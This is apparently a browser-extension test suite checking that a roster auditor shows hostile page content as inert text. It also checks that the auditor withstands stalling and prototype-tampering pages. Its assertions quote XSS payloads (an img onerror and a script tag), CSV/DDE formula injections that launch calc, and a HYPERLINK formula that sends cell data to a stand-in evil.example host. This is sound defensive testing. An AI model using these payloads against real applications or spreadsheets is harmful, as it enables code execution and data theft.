import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsv } from '../../lib/csv/read';
import { isLiveFormula } from '../fixtures/hostile-files';
import type { BrowserUnderTest } from '../../scripts/lib/browser';
import { findFirefox } from '../../scripts/lib/firefox';
import { typeInto } from '../../scripts/lib/journey';
import { auditThroughPopup, downloadExport, setInternalDomains, startFirefoxSession, startSession, type Session } from './harness';

/**
 * A roster page whose names and cells are attacks (markup, scripts, `javascript:` links, template and
 * SQL injection, right-to-left overrides, 5,000-character cells, spreadsheet formulas) is audited
 * through the popup, then looked at in every dashboard view and exported: nothing runs, nothing
 * renders as markup, and page text cannot reorder what is around it.
 */

interface ExpectedMember {
  name: string;
  identifier: string;
}
const expected = JSON.parse(readFileSync(resolve(import.meta.dirname, '../fixtures/consoles/intranet.example.com/hostile.expected.json'), 'utf8')) as {
  policy: { internalDomains: string[] };
  members: ExpectedMember[];
};

const HOSTILE = /[<>{}$=+@'"\u202e]|^-/;
/** Rows whose name or address is an attack; plain `@` addresses alone do not count. */
const hostileRows = expected.members.filter((m) => HOSTILE.test(m.name) || HOSTILE.test(m.identifier.replace(/@[\w.-]+$/, '')));
/** Each distinct attack once, found by the row's address (or by its own text when the address cell is the attack). */
const distinctHostile = [...new Map(hostileRows.map((m) => [`${m.name}|${/@/.test(m.identifier) ? '' : m.identifier}`, m])).values()];

/**
 * The 200,000 rows: laying them out takes Chromium minutes on a 2-core machine and the
 * audit a few more. ROSTER_AUDIT_HOSTILE_ROWS makes a quicker local run (same code path).
 */
const LARGE_ROWS = Number(process.env.ROSTER_AUDIT_HOSTILE_ROWS ?? 200_000);

/** How many members a snapshot holds in the extension's cache, and its last one. */
async function storedMembers(
  session: Session<BrowserUnderTest>,
  snapshotId: string,
): Promise<{ count: number; last: { name: string; classification: string } | undefined }> {
  const page = await session.openDashboard('#/data');
  try {
    return await page.evaluate(
      (id: string) =>
        new Promise<{ count: number; last: { name: string; classification: string } | undefined }>((done, fail) => {
          const open = indexedDB.open('roster-audit');
          open.onerror = () => fail(open.error);
          open.onsuccess = () => {
            // Members are keyed [snapshotId+index]: one snapshot's are one key range.
            const count = open.result
              .transaction('members')
              .objectStore('members')
              .count(IDBKeyRange.bound([id, -Infinity], [id, Infinity]));
            count.onsuccess = () => {
              // Members are keyed [snapshotId+index]: the last in key order is the last row read.
              const cursor = open.result
                .transaction('members')
                .objectStore('members')
                .openCursor(IDBKeyRange.bound([id, -Infinity], [id, Infinity]), 'prev');
              cursor.onsuccess = () => done({ count: count.result, last: cursor.result?.value });
              cursor.onerror = () => fail(cursor.error);
            };
          };
        }),
      snapshotId,
    );
  } finally {
    await page.close();
  }
}

/** What the payloads would leave in a page if they ran, or markup that should never exist. */
async function domIntrusions(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name)) found.push(`${element.tagName} ${attribute.name}`);
        if (/^\s*javascript:/i.test(attribute.value)) found.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
      }
    }
    for (const image of document.querySelectorAll('img')) if (image.getAttribute('src') === 'x') found.push('img src=x');
    for (const script of document.querySelectorAll('script')) if (!script.src) found.push(`inline script ${script.textContent?.slice(0, 40)}`);
    for (const bold of document.querySelectorAll('b')) if (bold.textContent === 'bold') found.push('<b>bold</b> rendered');
    return found;
  });
}

/** Text nodes equal to `text`, and whether each sits in an isolating inline element (`<bdi>` or `unicode-bidi: isolate`). */
async function textHolders(page: Page, scope: string, text: string): Promise<{ tag: string; isolated: boolean }[]> {
  return page.evaluate(
    ({ scope, text }) => {
      const holders: { tag: string; isolated: boolean }[] = [];
      for (const root of document.querySelectorAll(scope)) {
        const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          if (node.textContent !== text) continue;
          const parent = node.parentElement!;
          const style = getComputedStyle(parent);
          holders.push({ tag: parent.tagName, isolated: style.display === 'inline' && /isolate|plaintext/.test(style.unicodeBidi) });
        }
      }
      return holders;
    },
    { scope, text },
  );
}

/**
 * Audits hostile.html through the popup, then looks at every hostile value in the roster, the
 * member detail, the findings and an export: all text, nothing run, each isolated in direction.
 */
async function auditHostilePage(session: Session<BrowserUnderTest>, dialogs: readonly string[]): Promise<void> {
  expect(distinctHostile.length).toBeGreaterThanOrEqual(14);
  const consolePage = await session.openConsole('intranet.example.com', '/hostile.html');
  const { status, popup } = await auditThroughPopup(session, consolePage);
  expect(status).toContain('Audit complete');
  await popup.close();
  const { snapshot, members } = await session.readSnapshot('latest');
  expect(snapshot.complete).toBe(true);
  expect(members.map((m) => m.name)).toEqual(expected.members.map((m) => m.name));

  const dashboard = await session.openDashboard(`#/snapshots/${snapshot.id}`);
  const table = dashboard.getByRole('table', { name: 'Members', exact: true });
  const search = dashboard.getByRole('searchbox', { name: 'Search' });
  await expect.poll(() => table.getByRole('row').count(), { timeout: 60_000 }).toBeGreaterThan(10);
  for (const member of distinctHostile) {
    const shown = member.name || member.identifier;
    await typeInto(search, /@/.test(member.identifier) ? member.identifier : shown);
    const name = table.locator('.col-name button').filter({ hasText: shown });
    await expect.poll(() => name.count(), { timeout: 30_000, message: shown }).toBeGreaterThan(0);
    // The text appears as written, in an element that isolates its direction.
    const holders = await textHolders(dashboard, '.vtable .col-name', shown);
    expect(holders.length, shown).toBeGreaterThan(0);
    expect(
      holders.every((holder) => holder.isolated),
      `${shown} isolated in the roster: ${JSON.stringify(holders)}`,
    ).toBe(true);
    if (member.identifier) {
      const identifiers = await textHolders(dashboard, '.vtable .col-identifier', member.identifier);
      expect(identifiers.length > 0 && identifiers.every((holder) => holder.isolated), `${member.identifier} isolated`).toBe(true);
    }

    await name.first().click();
    const detail = dashboard.locator('aside.member-detail');
    await expect.poll(() => detail.locator('#member-detail-heading').textContent()).toBe(shown);
    const inDetail = await textHolders(dashboard, 'aside.member-detail', shown);
    expect(inDetail.length, `${shown} in the detail`).toBeGreaterThanOrEqual(2);
    expect(
      inDetail.every((holder) => holder.isolated),
      `${shown} isolated in the detail: ${JSON.stringify(inDetail)}`,
    ).toBe(true);
    expect(await domIntrusions(dashboard), shown).toEqual([]);
  }

  // A change of hash, as a link in the dashboard makes it (Firefox reports no navigation event for one on an add-on page).
  await dashboard.evaluate((hash) => {
    location.hash = hash;
  }, `#/findings?snapshot=${snapshot.id}`);
  await expect.poll(() => dashboard.getByText('External domain', { exact: false }).count(), { timeout: 30_000 }).toBeGreaterThan(0);
  expect(await domIntrusions(dashboard)).toEqual([]);

  const { bytes, page: exportPage } = await downloadExport(session, { snapshot: snapshot.id, format: 'audit-report' });
  expect(await domIntrusions(exportPage)).toEqual([]);
  const report = readCsv(bytes);
  if (!report.ok) throw new Error(JSON.stringify(report.error));
  expect(report.rows).toHaveLength(expected.members.length);
  for (const [index, row] of report.rows.entries()) {
    for (const [column, cell] of row.entries()) {
      expect(isLiveFormula(cell), `row ${index + 1} ${report.headers[column]}: ${JSON.stringify(cell.slice(0, 80))}`).toBe(false);
    }
  }
  const names = report.rows.map((row) => row[2]);
  expect(names).toContain('<img src=x onerror=alert(1)>');
  expect(names).toContain('<script>alert("roster")</script>');
  expect(names).toContain(`'=HYPERLINK("https://evil.example/?d="&A1,"詳細")`);
  expect(names).toContain("'+cmd|' /C calc'!A0");
  expect(names).toContain("'-2+3+cmd|' /C calc'!A0");
  expect(names).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
  expect(names).toContain('山田\u202e 太郎');

  expect(await domIntrusions(consolePage)).toEqual(expect.not.arrayContaining(['img src=x']));
  expect(dialogs).toEqual([]);
}

describe('hostile pages', () => {
  let session: Session;
  const dialogs: string[] = [];
  beforeAll(async () => {
    session = await startSession();
    // Every payload on the page calls alert(): a dialog anywhere means one ran.
    const watch = (page: Page) =>
      page.on('dialog', (dialog) => {
        dialogs.push(`${page.url()}: ${dialog.message()}`);
        void dialog.dismiss();
      });
    session.browser.context.pages().forEach(watch);
    session.browser.context.on('page', watch);
    await setInternalDomains(session, expected.policy.internalDomains);
  });
  afterAll(async () => {
    await session?.close();
  });

  it(
    'audits hostile.html and shows every hostile value as text, in the roster, the member detail, the findings and an export',
    { timeout: 300_000 },
    async () => {
      await auditHostilePage(session, dialogs);
    },
  );

  it(`keeps a ${LARGE_ROWS.toLocaleString('en')}-row page responsive while the audit runs, and shows progress`, { timeout: 1_500_000 }, async () => {
    const page = await session.browser.context.newPage();
    await page.goto(session.server.url('intranet.example.com', `/hostile.html?rows=${LARGE_ROWS}`), { timeout: 600_000 });
    await expect.poll(() => page.locator('#row-count').textContent(), { timeout: 600_000 }).toBe(`${LARGE_ROWS} 件`);
    // The page's own timer and click handler: if the scan held the page's thread, neither would run.
    await page.evaluate(() => {
      const w = window as unknown as { ticks: number; clicks: number };
      w.ticks = 0;
      w.clicks = 0;
      setInterval(() => w.ticks++, 20);
      document.querySelector('h1')!.addEventListener('click', () => w.clicks++);
    });
    const counters = () => page.evaluate(() => ({ ...(window as unknown as { ticks: number; clicks: number }) }));

    const popup = await session.openPopup(await session.tabIdOf(page));
    await popup.getByRole('button', { name: /Audit/ }).first().click({ timeout: 30_000 });
    const status = popup.getByRole('status');
    // Progress: a count of members read that is more than none and less than all.
    await status.filter({ hasText: /members read/ }).waitFor({ timeout: 300_000 });
    const readSoFar = () => status.textContent().then((text) => Number(/([\d,]+) members read/.exec(text ?? '')?.[1]?.replaceAll(',', '') ?? NaN));
    await expect.poll(readSoFar, { timeout: 300_000 }).toBeGreaterThan(0);

    const before = await counters();
    await page.locator('h1').click();
    await expect.poll(async () => (await counters()).clicks, { timeout: 60_000 }).toBe(before.clicks + 1);
    const after = await counters();
    expect(after.ticks).toBeGreaterThan(before.ticks);
    // All of that happened while the audit was still reading.
    const stillRunning = await status.textContent();
    expect(stillRunning, 'the click was handled mid-scan').toMatch(/members read/);
    expect(await readSoFar()).toBeLessThan(LARGE_ROWS);

    await status.filter({ hasText: /Audit complete|Audit stopped/ }).waitFor({ timeout: 900_000 });
    const snapshot = (await session.listSnapshots()).at(-1)!;
    expect(snapshot.sourceUrl).toContain(`rows=${LARGE_ROWS}`);
    // Counted inside the browser: 200,000 members are too many to ship to the test as JSON.
    const stored = await storedMembers(session, snapshot.id);
    expect(stored.count).toBe(snapshot.complete ? LARGE_ROWS : (snapshot.counts.members as number));
    if (snapshot.complete) {
      expect(stored.last).toMatchObject({ name: `社員${String(LARGE_ROWS - 1).padStart(6, '0')}`, classification: 'internal' });
    } else {
      expect(await status.textContent()).toMatch(/Audit stopped/);
    }
    expect(dialogs).toEqual([]);
  });
});

/**
 * Pages that try to stall or fool the reader (tests/fixtures/consoles/intranet.example.com/stall/):
 * each audit ends, at its end or at a bound, with the reason in words; a page that redefines the
 * DOM's prototypes in its own world changes nothing the scanner reads (it runs in an isolated world).
 */
describe('pages that try to stall or fool the reader', () => {
  const prototypes = JSON.parse(
    readFileSync(resolve(import.meta.dirname, '../fixtures/consoles/intranet.example.com/stall/prototypes.expected.json'), 'utf8'),
  ) as { policy: { internalDomains: string[] }; members: ExpectedMember[] };
  /** What an admin must never see in place of words: a reason code. */
  const RAW_CODE = /\b(time-limit|row-limit|scroll-stalled|scroll-moved-back|worker-stopped|end-not-reached|failed:)/;
  let session: Session;
  beforeAll(async () => {
    session = await startSession();
    await setInternalDomains(session, prototypes.policy.internalDomains);
  });
  afterAll(async () => {
    await session?.close();
  });

  it(
    'reads a page that redefines textContent, queries, getAttribute, styles, JSON, arrays and Object.prototype exactly as it is shown',
    { timeout: 180_000 },
    async () => {
      const page = await session.openConsole('intranet.example.com', '/stall/prototypes.html');
      // The page's own world really is redefined.
      expect(await page.evaluate(() => document.querySelectorAll('td').length)).toBe(0);
      expect(await page.evaluate(() => document.body.textContent)).toBe('偽物@evil.example');
      const { status } = await auditThroughPopup(session, page);
      expect(status).toContain('Audit complete');
      const { members } = await session.readSnapshot('latest');
      expect(members.map((m) => [m.name, m.identifier])).toEqual(prototypes.members.map((m) => [m.name, m.identifier]));
      expect(members.every((m) => m.classification === 'internal')).toBe(true);
      await page.close();
    },
  );

  it('ends the audit of a table re-drawn every 30 ms forever, with each person once', { timeout: 180_000 }, async () => {
    const page = await session.openConsole('intranet.example.com', '/stall/rerender-forever.html');
    const { status } = await auditThroughPopup(session, page, { timeoutMs: 150_000 });
    expect(status).toMatch(/Audit complete|Audit stopped early/);
    expect(status).not.toMatch(RAW_CODE);
    const { members } = await session.readSnapshot('latest');
    expect(members.length).toBeGreaterThan(0);
    expect(new Set(members.map((m) => m.normalizedEmail)).size).toBe(members.length);
    expect(members.length).toBeLessThanOrEqual(60);
    await page.close();
  });

  it(
    'stops a list that grows without end, and one that fires fake scroll events while moving itself back, at the time bound with the reason in words',
    { timeout: 420_000 },
    async () => {
      const settings = await session.openDashboard('#/settings');
      await settings.getByLabel('Longest audit (minutes)').fill('1');
      await settings.getByRole('button', { name: 'Set the time bound' }).click();
      await settings.getByRole('status').filter({ hasText: 'Set: an audit stops after 1 minutes.' }).waitFor({ timeout: 30_000 });
      await settings.close();

      const endless = await session.openConsole('intranet.example.com', '/stall/endless.html');
      const { status } = await auditThroughPopup(session, endless, { timeoutMs: 180_000 });
      expect(status).toMatch(/^Audit stopped early: [\d,]+ members read\. Stopped at the time bound of one audit/);
      const { snapshot, members } = await session.readSnapshot('latest');
      expect(snapshot).toMatchObject({ complete: false, incompleteReason: 'time-limit' });
      expect(members.length).toBeGreaterThan(200);
      expect(members.slice(0, 2).map((m) => m.name)).toEqual(['社員0000000', '社員0000001']);
      await endless.close();

      const fake = await session.openConsole('intranet.example.com', '/stall/fake-scroll.html');
      const fakeEnd = await auditThroughPopup(session, fake, { timeoutMs: 180_000 });
      // Read whole, or stopped at the bound; either way it ended, in words.
      expect(fakeEnd.status).toMatch(/Audit complete: 2,000 of 2,000|Audit stopped early: [\d,]+ (of 2,000 )?members read\. Stopped at the time bound/);
      expect(fakeEnd.status).not.toMatch(RAW_CODE);
      const read = await session.readSnapshot('latest');
      expect(new Set(read.members.map((m) => m.normalizedEmail)).size).toBe(read.members.length);
      await fake.close();
    },
  );
});

describe.skipIf(!findFirefox())('hostile pages in Firefox', () => {
  let session: Session<BrowserUnderTest>;
  const dialogs: string[] = [];
  beforeAll(async () => {
    session = await startFirefoxSession();
    session.browser.context.on('page', (page) =>
      page.on('dialog', (dialog) => {
        dialogs.push(`${page.url()}: ${dialog.message()}`);
        void dialog.dismiss();
      }),
    );
    await setInternalDomains(session, expected.policy.internalDomains);
  }, 180_000);
  afterAll(async () => {
    await session?.close();
  });

  it(
    'audits hostile.html and shows every hostile value as text, in the roster, the member detail, the findings and an export',
    { timeout: 300_000 },
    async () => {
      await auditHostilePage(session, dialogs);
    },
  );
});
